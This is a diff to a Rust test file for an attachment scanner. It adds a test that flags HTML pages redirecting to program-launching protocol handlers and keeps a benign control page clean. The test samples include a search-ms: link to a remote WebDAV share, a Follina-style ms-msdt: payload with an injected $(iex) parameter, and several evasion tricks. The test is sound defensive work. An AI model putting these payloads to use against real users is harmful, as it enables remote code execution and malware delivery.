@@ -2,8 +2,9 @@
 //! literals (`atob` of concatenated strings, byte arrays, `fromCharCode`)
 //! are decoded, without running anything, and scanned as what the browser
 //! would hand the user; the `<script>` elements of HTML and SVG are scanned
-//! as JavaScript. Ordinary pages stay clean and do not explode into
-//! objects.
+//! as JavaScript; links to the handlers that open shares or start programs
+//! (`search-ms:`, `ms-msdt:`) are blocked. Ordinary pages stay clean and
+//! do not explode into objects.
 
 use crate::util::*;
 use xferscan::Verdict;
@@ -315,4 +316,35 @@ fn a_script_with_ordinary_urls_has_no_payload() {
         "{:?}",
         r.objects.iter().map(|o| o.path.clone()).collect::<Vec<_>>()
     );
+}
+
+/// HTML attachments that send the browser to a handler that opens a share
+/// or starts a program: `search-ms:` with a WebDAV location (the remote
+/// folder dressed as search results), Follina's `ms-msdt:`, a meta
+/// refresh, a character reference for the colon, a page behind prose.
+#[test]
+fn pages_that_navigate_to_program_handlers_are_blocked() {
+    let search = r"search-ms:query=Invoice&crumb=location:\\203.0.113.7@SSL\DavWWWRoot\docs&displayname=Downloads";
+    let pages = [
+        format!("<html><body><script>window.location.href = '{search}';</script></body></html>"),
+        format!("<html><head><meta http-equiv=\"refresh\" content=\"0; url={search}\"></head></html>"),
+        "<html><body><a href=\"ms-msdt&#58;/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=$(iex)&quot;\">open</a></body></html>".to_owned(),
+        format!("{}<a href='{search}'>open</a>", "Dear customer, please find the invoice below.\n".repeat(120)),
+        "<html><script>location = 'ms-officecmd:' + JSON.stringify(p);</script></html>".to_owned(),
+    ];
+    for page in pages {
+        let r = scan("invoice.html", page.clone().into_bytes());
+        assert!(
+            has_key(&r, "document.external_link.handler"),
+            "{page:.100}: {:?}",
+            keys(&r)
+        );
+        assert_eq!(r.verdict, Verdict::Malicious);
+    }
+    // Controls: links to pages, mail and script, and prose that names the
+    // schemes.
+    let page = "<html><body><p>Windows has search-ms: and ms-msdt: protocols.</p>\
+        <label>Search: <input name=q></label><a href=\"javascript:void(0)\">x</a>\
+        <a href=\"https://example.com/search?q=1\">s</a><a href=\"mailto:a@example.com\">m</a></body></html>";
+    assert_clean(&scan("page.html", page.as_bytes().to_vec()));
 }
